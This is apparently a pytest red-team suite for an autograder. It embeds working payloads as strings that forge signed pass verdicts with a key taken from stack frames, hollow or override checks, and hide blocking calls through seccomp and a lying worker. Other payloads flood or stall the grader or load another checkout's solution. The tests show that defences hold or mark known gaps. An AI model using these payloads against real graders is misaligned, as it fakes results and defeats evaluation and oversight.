"""Issue 13's red team, written as tests: each attack gave full marks without solving.

Every attack is run for real, through the real grader, by ``test_hostile``'s ``hostile``
fixture (the test kit's ex01 and ex02; the fixture asserts what holds for every
submission: grading returns within its bound, the honest ex02 keeps full marks, the
learner's folder is untouched, no process is left). Each submission here is an *unsolved*
ex01 attempt (greet returns 42, main never runs greet) plus an attack, and each test
asserts the invariant the attack breaks: **the submission scores no more than the same
unsolved attempt without the attack** (``UNSOLVED_SCORE``, measured by
``TestTheBaseline``), and grading completes.

An attack that still succeeds today is a strict ``xfail`` naming why; the day it stops,
the test says so (XPASS fails). A strict xfail is also the proof that the attack works:
a broken attack scores no more than the unsolved attempt and would XPASS. An attack that
is stopped today is a plain test, and beside it either a control that runs the same
attack with the defence switched off (and asserts it then scores), or a docstring that
says how it was seen to work against the grader before the defence (commit ff767da,
run from a ``git archive`` of it in a virtual environment of its own).

The attacks reach the plugin's objects the way a learner's file can: walking up from a
traceback's frame with ``getattr(frame, "f_" + "back")``, the garbage collector taken
from the module table, the plugin manager of pytest's ``request``. No scanned file
imports the grader or pytest (the static scan would zero that).

``TestBeyondTheIssue`` holds what the red team found on the way: a stuck account that
says "passed", a line the parent cannot parse, a flood the parent keeps in memory, time
bought between two checks, and messages that are never cropped.
"""

# The fixtures hostile, mode and token are test_hostile's, imported by name (pytest finds
# fixtures among a module's names); the tests' parameters of the same names are them.
# ruff: noqa: F811

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import platform
import shutil
import subprocess
import sys
import tracemalloc
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from conftest import ROOT as SOURCE_TREE
from test_hostile import (  # noqa: F401 (fixtures)
    CONCURRENT,
    COROUTINE,
    GREETING,
    MODES,
    NO_BLOCKING,
    RESPAWN_S,
    TEST_MARGIN_S,
    TIMEOUT,
    WRONG_GREET,
    WRONG_MAIN,
    Grade,
    Graded,
    _leftovers,
    hostile,
    mode,
    needs_root,
    submission,
    token,
)

from grader import channel
from grader.manifest import Kit
from grader.results import ExerciseStatus
from grader.sandbox import Limits

pytestmark = pytest.mark.slow

#: An honest attempt that solves nothing: greet is a coroutine function that never waits
#: and returns 42; main never runs greet. It passes "greet is an async def" (1) and "greet
#: never blocks the loop" (2) of ex01's ten points.
UNSOLVED = (WRONG_GREET, WRONG_MAIN)
UNSOLVED_SCORE = 3.0

#: Why the in-process attacks still work on a checks file that is not split (SECURITY.md, residual risks).
IN_PROCESS = (
    "in-process tampering (SECURITY.md, residual risks): the learner's module is imported into the "
    "pytest process that runs its checks and reports their verdicts; {how}. Closed where verdicts "
    "come from a process that never runs learner code: every checks file of the kit runs split (tests/kit "
    "checks it); these attacks are measured on a checks file without the split mark"
)

# --- the attacks' parts (learner code: @NAME@ is filled in per test) ----------------------

#: The frames above the learner's own code, to the interpreter's entry point, without
#: sys._getframe or the name f_back anywhere in the source.
FRAMES = """
def _frames():
    try:
        raise LookupError
    except LookupError as exc:
        frame = exc.__traceback__.tb_frame
    while frame is not None:
        yield frame
        frame = getattr(frame, "f_" + "back")
"""

#: The ids of the checks being run, read from the checks file in the work folder.
CHECK_IDS = """
import re

def _check_ids():
    work = os.path.dirname(os.getcwd())  # the learner's folder is target/ in the work folder
    name = next(n for n in sorted(os.listdir(work)) if n.startswith("test_") and n.endswith(".py"))
    with open(os.path.join(work, name), encoding="utf-8") as fh:
        return [name + "::" + found for found in re.findall(r"^(?:async )?def (test_\\w+)", fh.read(), re.M)]
"""

#: Attack 1: the channel key from the child's entry point's locals, the result fd from
#: sys.argv, the check ids from the checks file, the sequence numbers predicted, nonces of
#: its own: a whole well-formed conversation, every check passed; then SIGKILL, so the
#: plugin never says anything after it.
KEY_FORGER = """
import hashlib
import hmac
import json
import signal

def _entry_key():
    for frame in _frames():
        names = frame.f_locals
        if frame.f_code.co_name == "run" and "key" in names and "settings" in names:
            return names["key"]  # grader.sandbox.child.run(settings, args, key)
    return None

def _sent_so_far():
    # Sent before this import: hello, the collected checks, the first check's start,
    # importing; and, on a loaded machine, now and then a message more. The plugin's
    # Writer, in a caller's locals, counts them.
    for frame in _frames():
        for value in list(frame.f_locals.values()):
            if type(value).__name__ == "Writer" and isinstance(getattr(value, "_seq", None), int):
                return value._seq
    return 4

def _forge(key):
    fd = int(sys.argv[sys.argv.index("--awaitlings-fd") + 1])
    first, *rest = _check_ids()
    seq = _sent_so_far()
    messages = [{"type": "imported"}, {"type": "result", "id": first, "status": "passed"}]
    for check_id in rest:
        messages += [{"type": "start", "id": check_id}, {"type": "result", "id": check_id, "status": "passed"}]
    messages.append({"type": "done"})
    for message in messages:
        seq += 1
        body = json.dumps({"seq": seq, "nonce": os.urandom(16).hex(), **message}).encode()
        os.write(fd, hmac.new(key, body, hashlib.sha256).hexdigest().encode() + b" " + body + b"\\n")
    os.kill(os.getpid(), signal.SIGKILL)

_key = _entry_key()
if _key is not None:
    _forge(_key)
"""

#: Attack 1, the same conversation through the plugin's own keyed Writer (found in a
#: caller's locals): its sequence numbers, nonces and signatures are the real ones.
WRITER_FORGER = """
import signal

def _writer():
    for frame in _frames():
        for value in list(frame.f_locals.values()):
            if type(value).__name__ == "Writer" and hasattr(value, "send"):
                return value
    return None

_channel = _writer()
if _channel is not None:
    _wire = sys.modules[type(_channel).__module__]  # the message classes, beside the Writer
    _first, *_rest = _check_ids()
    _channel.send(_wire.Imported())
    _channel.send(_wire.Result(_first, "passed"))
    for _check_id in _rest:
        _channel.send(_wire.Start(_check_id))
        _channel.send(_wire.Result(_check_id, "passed"))
    _channel.send(_wire.Done())
    os.kill(os.getpid(), signal.SIGKILL)
"""

#: Attack 2: pytest's request (the ex fixture's argument, a caller of this import); every
#: collected check's code replaced by an empty body of the same signature. The plugin and
#: the channel are never touched: the checks themselves pass.
HOLLOW_CHECKS = """
def _request():
    for frame in _frames():
        found = frame.f_locals.get("request")
        if found is not None and hasattr(found, "session") and hasattr(found, "config"):
            return found
    return None

def _hollow(function):
    code = function.__code__
    head = "async def" if code.co_flags & 0x80 else "def"  # CO_COROUTINE: pytest-asyncio's checks stay async
    space = {}
    exec(f"{head} hollow({', '.join(code.co_varnames[: code.co_argcount])}):\\n    pass\\n", space)
    function.__code__ = space["hollow"].__code__

_found = _request()
if _found is not None:
    for _item in _found.session.items:
        _function = getattr(_item, "function", None) or _item.obj
        if getattr(_function, "__code__", None) is not None and _function.__code__.co_name != "hollow":
            _hollow(_function)
"""

#: Attack 3: the garbage collector from the module table (no import), the channel among
#: its objects, its send wrapped: every result reads "passed".
GC_WRAPPED_SEND = """
import dataclasses

_collector = getattr(sys, "mod" + "ules")["g" + "c"]
for _found in _collector.get_objects():
    if type(_found).__name__ == "Writer" and not hasattr(_found.send, "wrapped"):
        def _send(message, _original=_found.send):
            if type(message).__name__ == "Result":
                message = dataclasses.replace(message, status="passed", message=None, import_error=False)
            _original(message)

        _send.wrapped = True
        _found.send = _send
"""

#: Attack 4: the channel from the importing frame's locals (the plugin's _import_fresh).
IMPORTING_CHANNEL = """
import threading

def _importing_channel():
    for frame in _frames():
        found = frame.f_locals.get("channel")
        if found is not None and hasattr(found, "send"):
            return found
    return None

_channel = _importing_channel()
_wire = sys.modules[type(_channel).__module__]

def _forge_pass(check_id):
    _channel.send(_wire.Result(check_id, "passed"))
"""

#: ...then, at the session's end ("done" has been sent: pytest's config cleanups run after
#: it), "passed" for every check. (A thread waiting for the interpreter's shutdown never
#: runs: the grader ends a run with os._exit once pytest returns.)
AFTER_DONE = """
def _after_done():
    for check_id in _check_ids():
        _forge_pass(check_id)

for _frame in _frames():
    _request = _frame.f_locals.get("request")
    if _request is not None and hasattr(_request, "config"):
        if not getattr(_request.config, "_after_done_armed", False):
            _request.config._after_done_armed = True
            _request.config.add_cleanup(_after_done)
        break
"""

#: ...or, during each check, "passed" again for the checks already decided.
DECIDED_AGAIN = """
_ids = _check_ids()
for _check_id in _ids[: _ids.index(_channel._check)]:
    _forge_pass(_check_id)
"""

#: ...or, during the first check of the first run, "passed" for the checks still to come;
#: then the child ends, so no honest verdict follows (a re-run is left alone).
NEVER_STARTED = """
if not any("::" in arg for arg in sys.argv):  # a re-run names its checks one by one
    for _check_id in _check_ids():
        if _check_id != _channel._check:
            _forge_pass(_check_id)
    os._exit(0)
"""

AFTER_THE_FACT = {"after done": AFTER_DONE, "a second result": DECIDED_AGAIN, "never started": NEVER_STARTED}

#: Attack 5: a plugin registered at run time through request.config.pluginmanager: the
#: innermost makereport wrapper (pluggy's marker written by hand, no pytest import), so the
#: grader's own wrapper only ever sees passing reports.
ALL_PASS_PLUGIN = """
def _request():
    for frame in _frames():
        found = frame.f_locals.get("request")
        if found is not None and hasattr(found, "config"):
            return found
    return None

class _AllPass:
    def pytest_runtest_makereport(self, item, call):
        report = yield
        report.outcome = "passed"
        report.longrepr = None
        return report

    pytest_runtest_makereport.pytest_impl = {"wrapper": True, "trylast": True}

_found = _request()
if _found is not None and not _found.config.pluginmanager.has_plugin("all-pass"):
    _found.config.pluginmanager.register(_AllPass(), "all-pass")
"""

#: Attack 6: the first stage (clean: the static scan finds nothing) rewrites the file its
#: checks import afresh for each check; the second stage, never scanned, imports the
#: grader and makes every failure read "passed".
SECOND_STAGE = """
import asyncio
import grader.plugin

grader.plugin._describe_failure = lambda *args: ("passed", None)


async def greet(name, delay):
    return 42


def main(names, delay=0.1):
    return [f"Hello, {n}!" for n in names]
"""

REWRITE_ITSELF = f"""
SECOND_STAGE = {SECOND_STAGE!r}

try:
    with open(__file__, "w", encoding="utf-8") as _fh:
        _fh.write(SECOND_STAGE)
except OSError as _exc:
    print("REWRITE refused:", _exc)
else:
    print("REWRITE done")
"""

#: Attack 7: a chain of 3000 folders in each place the child may write, made through
#: directory fds (no path longer than one name): deeper than recursion or PATH_MAX reach.
#: Each check's import goes down the same chain again.
DEEP_CHAIN = """
def _chain(top, depth=3000):
    fd = os.open(top, os.O_RDONLY | os.O_DIRECTORY)
    try:
        for _ in range(depth):
            try:
                os.mkdir("deep", dir_fd=fd)
            except FileExistsError:
                pass
            below = os.open("deep", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd = below
        os.close(os.open("bottom", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd))
    finally:
        os.close(fd)

for _where in ("cwd", "TMPDIR", "HOME"):
    _top = os.getcwd() if _where == "cwd" else os.environ.get(_where, "")
    try:
        _chain(_top)
    except OSError as _exc:
        print("CHAIN", _where, "refused:", _exc)
    else:
        print("CHAIN", _where, "made")
"""

#: Attack 8: another checkout of the kit elsewhere on the machine; its reference answer
#: replaces this unsolved attempt.
OTHER_CHECKOUT = """
try:
    with open("@SOLUTION@", encoding="utf-8") as _fh:
        exec(compile(_fh.read(), "@SOLUTION@", "exec"), globals())
except OSError as _exc:
    print("OTHER CHECKOUT refused:", _exc)
else:
    print("OTHER CHECKOUT read")
"""

#: Beyond the issue: what the watchdog says of a check it cannot stop becomes the check's
#: verdict if the parent has to kill the child; the forger says "passed", then never returns.
STUCK_PASSED_MAIN = """
import gc
import signal

def main(names, delay=0.1):
    for found in gc.get_objects():
        if type(found).__name__ == "Writer":
            wire = sys.modules[type(found).__module__]
            found.send(wire.Stuck(found._check, "still greeting", "passed"))
    signal.signal(signal.SIGALRM, signal.SIG_IGN)
    while True:
        try:
            while True:
                time.sleep(0.05)
        except BaseException:
            pass
"""

#: Beyond the issue: one authenticated line nested deeper than the parent's JSON decoder goes.
TOO_DEEP_LINE = """
import hashlib
import hmac

def _entry_key():
    for frame in _frames():
        names = frame.f_locals
        if frame.f_code.co_name == "run" and "key" in names and "settings" in names:
            return names["key"]
    return None

_key = _entry_key()
if _key is not None:
    _fd = int(sys.argv[sys.argv.index("--awaitlings-fd") + 1])
    _body = b"[" * 100_000
    os.write(_fd, hmac.new(_key, _body, hashlib.sha256).hexdigest().encode() + b" " + _body + b"\\n")
"""

#: Beyond the issue: 64 MiB of authenticated "error" messages (allowed at any time), sent
#: with the plugin's own Writer during one check; then main returns as the unsolved one does.
ERROR_FLOOD_MAIN = """
import gc

def main(names, delay=0.1):
    for found in gc.get_objects():
        if type(found).__name__ == "Writer" and not getattr(found, "flooded", False):
            found.flooded = True
            wire = sys.modules[type(found).__module__]
            for _ in range(64):
                found.send(wire.Error("e" * 1024 * 1024))
    return [f"Hello, {n}!" for n in names]
"""

#: Beyond the issue, and no tampering, nothing the static scan flags: garbage only the cycle
#: collector frees, hung on the check's loop. The loop is let go after the check's verdict
#: is sent; the plugin's gc.collect() before the next check starts runs the finalizer, which
#: holds the GIL. Once, in the first run (a re-run names its checks one by one).
STALL_BETWEEN_CHECKS = """
class _Junk:
    def __init__(self):
        self.me = self

    def __del__(self):
        sum(range(10**11))


async def greet(name, delay):
    if not any("::" in arg for arg in sys.argv):
        asyncio.get_running_loop().learner_junk = _Junk()
    return 42
"""

#: Beyond the issue, and no tampering at all: an exception whose text is 6 MB.
HUGE_MESSAGES = """
async def greet(name, delay):
    raise ValueError("x" * 6_000_000)


def main(names, delay=0.1):
    raise ValueError("y" * 6_000_000)
"""


def attack(*parts: str) -> str:
    """The unsolved attempt, then the attack's parts: an ex01 file."""
    return submission(*UNSOLVED, *parts)


def assert_no_better_than_unsolved(graded: Graded) -> None:
    assert graded.ex01.score <= UNSOLVED_SCORE, (
        f"the attack scored {graded.ex01.score}, more than the unsolved attempt's {UNSOLVED_SCORE}: "
        f"passed {sorted(graded.passed)}"
    )


# --- the tests ----------------------------------------------------------------------------


class TestTheBaseline:
    """What the attacks are measured against."""

    def test_an_honest_unsolved_attempt_scores_three(self, hostile: Grade, mode: Limits) -> None:
        """The unsolved attempt, without any attack: 3 of ex01's 10 points."""
        graded = hostile(submission(*UNSOLVED), limits=mode)
        assert graded.passed == {COROUTINE, NO_BLOCKING}
        assert graded.ex01.score == UNSOLVED_SCORE

    def test_the_same_in_a_split_run(self, hostile: Grade, mode: Limits) -> None:
        """The same checks run split (the learner's code in a worker process) give the
        unsolved attempt the same verdicts: the attacks below are measured against it too."""
        graded = hostile(submission(*UNSOLVED), limits=mode, split=True)
        assert graded.passed == {COROUTINE, NO_BLOCKING}
        assert graded.ex01.score == UNSOLVED_SCORE


class TestAForgedConversationScoresNothing:
    """Attack 1: a whole, well-formed conversation forged with the channel's key, then the
    child kills itself. The parent checks signatures, sequence numbers, nonces and the
    conversation's grammar; all of them hold for a forger that has the key."""

    @pytest.mark.xfail(
        strict=True,
        reason=IN_PROCESS.format(
            how="the channel key is a local of the child's entry point (grader.sandbox.child.run), a few "
            "f_back away from the learner's import; the nonces are the forger's own (the parent only "
            "refuses repeats) and the sequence numbers are predictable; the plugin's Writer, in a "
            "caller's locals, does all of it for the forger"
        ),
    )
    @pytest.mark.parametrize("forger", ["the key", "the Writer"])
    def test_a_conversation_forged_from_the_entry_points_locals(self, hostile: Grade, forger: str) -> None:
        """Every check "passed", written to the real pipe, then SIGKILL."""
        parts = (KEY_FORGER,) if forger == "the key" else (WRITER_FORGER,)
        graded = hostile(attack(FRAMES, CHECK_IDS, *parts))
        assert_no_better_than_unsolved(graded)

    @pytest.mark.parametrize("forger", ["the key", "the Writer"])
    def test_a_split_run_has_neither_key_nor_writer(self, hostile: Grade, mode: Limits, forger: str) -> None:
        """Split: the learner's code runs in a worker started as a fresh interpreter; the
        key and the Writer live in the checker, which never runs it."""
        parts = (KEY_FORGER,) if forger == "the key" else (WRITER_FORGER,)
        graded = hostile(attack(FRAMES, CHECK_IDS, *parts), limits=mode, split=True)
        assert_no_better_than_unsolved(graded)


class TestTheChecksThemselvesCannotBeRewritten:
    """Attack 2: pytest's request, found in a caller's frame, reaches every collected check;
    their code is replaced by an empty body (the plugin and the channel never touched)."""

    @pytest.mark.xfail(
        strict=True,
        reason=IN_PROCESS.format(
            how="pytest's request is a local of the ex fixture that imports the learner's module, and "
            "the checks' functions are plain objects of that process: their __code__ can be swapped"
        ),
    )
    def test_hollowed_checks_score_nothing(self, hostile: Grade) -> None:
        """Every check's body replaced by ``pass`` at the first import."""
        graded = hostile(attack(FRAMES, HOLLOW_CHECKS))
        assert_no_better_than_unsolved(graded)

    def test_a_split_run_holds_no_check_to_hollow(self, hostile: Grade, mode: Limits) -> None:
        graded = hostile(attack(FRAMES, HOLLOW_CHECKS), limits=mode, split=True)
        assert_no_better_than_unsolved(graded)


class TestTheChannelCannotBeWrapped:
    """Attack 3: the garbage collector (from the module table, no import) lists the plugin's
    Writer; its send is wrapped so that every result it carries reads "passed"."""

    @pytest.mark.xfail(
        strict=True,
        reason=IN_PROCESS.format(
            how="gc.get_objects() lists the plugin's Writer and an instance attribute replaces its send; "
            "the parent sees the plugin's own, well-formed conversation with the statuses changed"
        ),
    )
    def test_a_wrapped_send_scores_nothing(self, hostile: Grade) -> None:
        """Every Result rewritten to "passed" on its way out."""
        graded = hostile(attack(GC_WRAPPED_SEND))
        assert_no_better_than_unsolved(graded)

    def test_a_split_run_holds_no_channel_to_wrap(self, hostile: Grade, mode: Limits) -> None:
        graded = hostile(attack(GC_WRAPPED_SEND), limits=mode, split=True)
        assert_no_better_than_unsolved(graded)


class TestVerdictsOutOfTurnZeroTheExercise:
    """Attack 4: the channel taken from the importing frame's locals; "passed" sent for every
    check after "done" (from a non-daemon thread), for checks already decided, or for checks
    that never started. The parent accepts only a well-formed conversation (channel.Reader):
    each is tampering, and the exercise scores zero.

    The controls below run the same attacks with the Reader's grammar switched off (the
    signatures, sequence numbers and nonces still checked): then each one scores more than
    the unsolved attempt, so what stops it is the grammar, and the attacks are real."""

    @pytest.mark.parametrize("variant", list(AFTER_THE_FACT))
    def test_verdicts_out_of_turn_zero_the_exercise(self, hostile: Grade, mode: Limits, variant: str) -> None:
        graded = hostile(attack(FRAMES, CHECK_IDS, IMPORTING_CHANNEL, AFTER_THE_FACT[variant]), limits=mode)
        assert_no_better_than_unsolved(graded)
        assert graded.ex01.score == 0 and graded.ex01.status is ExerciseStatus.ERROR
        message = graded.ex01.message or ""
        assert "result channel" in message and "interfered" in message, message

    @pytest.mark.parametrize("variant", list(AFTER_THE_FACT))
    def test_control_without_the_grammar_the_attack_scores(
        self, hostile: Grade, monkeypatch: pytest.MonkeyPatch, variant: str
    ) -> None:
        """The defence switched off in the parent: the same submission now scores."""
        monkeypatch.setattr(channel.Reader, "_follow", lambda _self, _message: None)
        graded = hostile(attack(FRAMES, CHECK_IDS, IMPORTING_CHANNEL, AFTER_THE_FACT[variant]))
        assert graded.ex01.score > UNSOLVED_SCORE, (graded.ex01.score, graded.messages)


class TestARegisteredPluginCannotPassEveryCheck:
    """Attack 5: ``request.config.pluginmanager.register(...)`` at run time, with a
    ``pytest_runtest_makereport`` wrapper that turns every report into a pass."""

    @pytest.mark.xfail(
        strict=True,
        reason=IN_PROCESS.format(
            how="pytest's plugin manager takes new plugins while the session runs, and the plugin "
            "judges a check from the reports that pass through the hook chain"
        ),
    )
    def test_a_plugin_registered_at_run_time_scores_nothing(self, hostile: Grade) -> None:
        graded = hostile(attack(FRAMES, ALL_PASS_PLUGIN))
        assert_no_better_than_unsolved(graded)

    def test_a_split_run_has_no_plugin_manager(self, hostile: Grade, mode: Limits) -> None:
        graded = hostile(attack(FRAMES, ALL_PASS_PLUGIN), limits=mode, split=True)
        assert_no_better_than_unsolved(graded)


#: The split run's own attack: the worker's end of the conversation, found with the garbage
#: collector, made to vouch for the learner: every error it would report becomes a success,
#: every blocking call and loop problem goes unreported, every coroutine function is one.
LYING_WORKER = """
_collector = getattr(sys, "mod" + "ules")["g" + "c"]
for _found in _collector.get_objects():
    if type(_found).__name__ == "Link" and hasattr(_found, "reply") and hasattr(_found, "codec"):
        _link = _found

        def _reply(number, value=None, error=None, _original=_link.reply, **extra):
            if error is not None:
                return _original(number, "Hello, Ada!")
            return _original(number, value, **extra)

        _link.reply = _reply
        _link.op_blocking = lambda number, message, _link=_link: _link.reply(number, [])
        _link.op_problems = lambda number, message, _link=_link: _link.reply(number, [])
        print("the worker's link is the learner's now")
"""


class TestASplitWorkerCannotVouchForItself:
    """A split run's worker is the learner's: it can say anything on its end of the
    conversation. The checker decides from what it observes itself (values, calls to its
    fakes, its clock); a worker that turns its errors into answers and hides its blocking
    calls and loop problems still scores no more than the unsolved attempt (which passes
    the two checks that rest on the worker's word anyway: SECURITY.md, step 10)."""

    def test_a_worker_that_lies_scores_nothing(self, hostile: Grade, mode: Limits) -> None:
        graded = hostile(attack(LYING_WORKER), limits=mode, split=True)
        assert "the worker's link is the learner's now" in graded.output  # the attack ran
        assert_no_better_than_unsolved(graded)


#: The worker's end of the conversation, taken from the module table (the worker's
#: process runs ``grader.split.worker.main``).
WORKER_LINK = """
_link = getattr(sys, "mod" + "ules")["grader.split" + ".worker"].LINK[0]
"""


def assert_the_attack_ran(graded: Grade) -> None:
    """The learner's module imported: the attack reached its link, not an import error."""
    assert "Importing ex01_hello_run.py raised" not in graded.messages, graded.messages

#: The worker made to hide what it can see of itself: no blocking call and no loop problem
#: reported, and every call back to the checker said to come from one loop and thread.
HIDING_WORKER = WORKER_LINK + """
_link.op_blocking = lambda number, message, _link=_link: _link.reply(number, [])
_link.op_problems = lambda number, message, _link=_link: _link.reply(number, [])
_send = _link.send

def _one_loop(message, _send=_send):
    if isinstance(message, dict) and message.get("op") == "call" and isinstance(message.get("from"), list):
        message["from"] = [1, 1, 1, 0, 0]
    return _send(message)

_link.send = _one_loop
print("the worker hides what it sees")
"""

#: Two classic wrong answers (tests/mutants/ex01_hello_run: blocking_sleep and
#: thread_per_name), each with the score it gets from an honest worker.
CLASSIC = {
    "time.sleep in greet": (
        """
        async def greet(name, delay):
            time.sleep(delay)
            return f"Hello, {name}!"

        def main(names, delay=0.1):
            async def all_of_them():
                return await asyncio.gather(*(greet(n, delay) for n in names))
            return asyncio.run(all_of_them())
        """,
        6.0,
    ),
    "a loop per thread": (
        """
        from concurrent.futures import ThreadPoolExecutor

        async def greet(name, delay):
            await asyncio.sleep(delay)
            return f"Hello, {name}!"

        def main(names, delay=0.1):
            with ThreadPoolExecutor(max_workers=max(1, len(names))) as pool:
                return list(pool.map(lambda n: asyncio.run(greet(n, delay)), names))
        """,
        7.0,
    ),
}


#: A seccomp filter of the submission's own, stacked on the worker's: its sleeps answered
#: EINTR (an errno outranks the worker's notification, so the checker would never hear of
#: them), greet spinning in time.sleep on the loop's thread until an alarm (x86_64 numbers).
OWN_FILTER = """
import ctypes, signal

class _Step(ctypes.Structure):
    _fields_ = (("code", ctypes.c_uint16), ("jt", ctypes.c_uint8), ("jf", ctypes.c_uint8), ("k", ctypes.c_uint32))

class _Program(ctypes.Structure):
    _fields_ = (("len", ctypes.c_uint16), ("filter", ctypes.POINTER(_Step)))

_steps = [(0x20, 0, 0, 4), (0x15, 1, 0, 0xC000003E), (0x06, 0, 0, 0x7FFF0000), (0x20, 0, 0, 0),
          (0x15, 2, 0, 230), (0x15, 1, 0, 35), (0x06, 0, 0, 0x7FFF0000), (0x06, 0, 0, 0x00050000 | 4)]
_program = _Program(len(_steps), (_Step * len(_steps))(*(_Step(*s) for s in _steps)))
_libc = ctypes.CDLL(None, use_errno=True)
_libc.prctl(38, 1, 0, 0, 0)
_installed = _libc.syscall(ctypes.c_long(317), ctypes.c_long(1), ctypes.c_long(0), ctypes.byref(_program))
print("own filter:", "installed" if _installed == 0 else "refused")

class _Wake(Exception):
    pass

def _alarm(signum, frame):
    raise _Wake

signal.signal(signal.SIGALRM, _alarm)

async def greet(name, delay):
    try:
        signal.setitimer(signal.ITIMER_REAL, delay)
        time.sleep(delay + 10)
    except _Wake:
        pass
    await asyncio.sleep(delay)
    return f"Hello, {name}!"
"""

#: The worker's life moved off its main thread, which parks for good: the rest of the
#: import and every later request handled on a thread of the submission's own, so that
#: greet's time.sleep is not on the thread the kernel's count watches.
LOOP_ELSEWHERE = """
import threading

_import = sys._getframe(0).f_back
_number, _message, _module = (_import.f_locals[k] for k in ("number", "message", "module"))

def _take_over():
    _link.module = _module
    _link.reply(_number, _module)
    if _message.get("session"):
        loop = _link._session_loop()
        loop.call_soon(_link.drain)
        _link._run_session(loop)
    _link.serve()

async def greet(name, delay):
    time.sleep(delay)
    await asyncio.sleep(delay)
    return f"Hello, {name}!"

print("the loop runs elsewhere")
threading.Thread(target=_take_over, name="awaitlings-link2", daemon=True).start()
threading.Event().wait()
"""

#: LOOP_ELSEWHERE with a main thread that keeps itself awake (a timed wait, not a sleep:
#: the kernel switches it in and out, and the seccomp filter does not see it).
LOOP_ELSEWHERE_AWAKE = LOOP_ELSEWHERE.replace(
    "threading.Event().wait()", "_nap = threading.Event()\nwhile True:\n    _nap.wait(0.005)"
)

GATHER_MAIN = """
def main(names, delay=0.1):
    async def all_of_them():
        return await asyncio.gather(*(greet(n, delay) for n in names))
    return asyncio.run(all_of_them())
"""


class TestWhatTheKernelSeesCannotBeHidden:
    """A worker may hide what only it sees of itself; where the kernel sees it too, hiding
    gains nothing. Before the learner's module is imported, the worker's main thread hands
    the checker a seccomp listener for its sleeping system calls (grader.split.sleeps), and
    the checker counts the Unix sockets the run's other processes hold (two per event
    loop) in its network namespace at every call back. A classic wrong
    answer whose worker hides its blocking calls and says every greeting ran on one loop
    scores what it scores honestly. Before (8 of ex01's points rested on the worker's word,
    SECURITY.md step 10), with the kernel's counts switched off in a checkout: the hidden
    loop per thread scored 10/10 (honest 7), the hidden time.sleep 8/10 (honest 6)."""

    @pytest.mark.parametrize("wrong", list(CLASSIC))
    def test_the_honest_score(self, hostile: Grade, wrong: str) -> None:
        graded = hostile(submission(CLASSIC[wrong][0]), split=True)
        assert graded.ex01.score == CLASSIC[wrong][1], sorted(graded.passed)

    @pytest.mark.parametrize(
        ("where", "wrong"),
        [
            ("sandbox", "time.sleep in greet"),
            ("limits-only", "time.sleep in greet"),
            ("sandbox", "a loop per thread"),
            pytest.param(
                "limits-only",
                "a loop per thread",
                marks=pytest.mark.xfail(
                    strict=True,
                    reason="without a network namespace of the run's own, the kernel's count of the "
                    "loops' sockets is the machine's: which loops called greet is the worker's word "
                    "(SECURITY.md, step 10)",
                ),
            ),
        ],
    )
    def test_hiding_it_gains_nothing(self, hostile: Grade, where: str, wrong: str) -> None:
        graded = hostile(submission(HIDING_WORKER, CLASSIC[wrong][0]), limits=MODES[where], split=True)
        assert "the worker hides what it sees" in graded.output  # the attack ran
        assert graded.ex01.score <= CLASSIC[wrong][1], sorted(graded.passed)
        if wrong == "time.sleep in greet":
            assert NO_BLOCKING not in graded.passed
            assert "the kernel saw it sleep" in graded.messages
        else:
            assert CONCURRENT not in graded.passed
            assert "event loops were open at once" in graded.messages

    @pytest.mark.skipif(platform.machine() != "x86_64", reason="the attack's filter has x86_64's numbers")
    def test_a_filter_of_its_own_is_refused(self, hostile: Grade, mode: Limits) -> None:
        """Seen to score 10/10 before the worker's filter refused seccomp() (a9f766c)."""
        graded = hostile(submission(HIDING_WORKER, OWN_FILTER, GATHER_MAIN), limits=mode, split=True)
        assert "own filter: refused" in graded.output
        assert graded.ex01.score <= CLASSIC["time.sleep in greet"][1], sorted(graded.passed)
        assert NO_BLOCKING not in graded.passed

    def test_a_loop_moved_off_the_watched_thread(self, hostile: Grade, mode: Limits) -> None:
        """Seen to score 10/10 before the checker looked at what the main thread did."""
        graded = hostile(submission(HIDING_WORKER, GATHER_MAIN, LOOP_ELSEWHERE), limits=mode, split=True)
        assert "the loop runs elsewhere" in graded.output
        assert graded.ex01.score <= CLASSIC["time.sleep in greet"][1], sorted(graded.passed)
        assert NO_BLOCKING not in graded.passed and GREETING not in graded.passed

    @pytest.mark.xfail(
        strict=True,
        reason="a main thread that keeps itself awake with timed waits is not standing still: which "
        "thread runs the loop is then the worker's word (SECURITY.md, step 10: what the kernel's "
        "counts do not see)",
    )
    def test_a_loop_moved_off_a_main_thread_kept_awake(self, hostile: Grade) -> None:
        attack = submission(HIDING_WORKER, GATHER_MAIN, LOOP_ELSEWHERE_AWAKE)
        graded = hostile(attack, limits=MODES["sandbox"], split=True)
        assert "the loop runs elsewhere" in graded.output
        assert graded.ex01.score <= CLASSIC["time.sleep in greet"][1], sorted(graded.passed)


#: Answers to requests the checker never made, large ones.
UNASKED_ANSWERS = """
for _number in range(10**6, 10**6 + 40):
    _link.send({"op": "reply", "id": _number, "ok": True, "value": "x" * 1_000_000})
"""

#: Output sent past the cap the worker's own forwarding keeps.
OUTPUT_FLOOD = """
for _ in range(40):
    _link.send({"op": "out", "stream": "stdout", "text": "y" * 1_000_000})
"""

#: The worker's own loop monitor stopped, then greet spins: nothing in the worker tells.
SILENT_SPIN = """
if _link.monitor is not None:
    _link.monitor.stop()

async def greet(name, delay):
    while True:
        pass
"""


class TestASplitWorkerCannotHoldTheChecker:
    """The worker may flood its end of the conversation or silence what watches it; the
    checker cuts it off, and judges a silent spin from the kernel's CPU count of the
    worker's main thread, not by waiting out the check's limit."""

    @pytest.mark.parametrize("flood", ["unasked answers", "output flood"])
    def test_a_flood_ends_the_conversation(self, hostile: Grade, flood: str) -> None:
        part = UNASKED_ANSWERS if flood == "unasked answers" else OUTPUT_FLOOD
        graded = hostile(attack(WORKER_LINK, part), split=True)
        assert_the_attack_ran(graded)
        assert_no_better_than_unsolved(graded)
        assert len(graded.output) < 200_000, len(graded.output)

    def test_a_silenced_monitor_still_gets_a_spin_named(self, hostile: Grade) -> None:
        # A limit long enough for the spin to get its half second of CPU on a machine
        # running nine suites on two cores (the verdict is the same either way: a fail).
        graded = hostile(attack(WORKER_LINK, SILENT_SPIN), split=True, timeout=10)
        assert_the_attack_ran(graded)
        assert_no_better_than_unsolved(graded)
        # The checker sees only the worker's CPU: it says the loop never waited, not which
        # of a spin or a poll kept it busy.
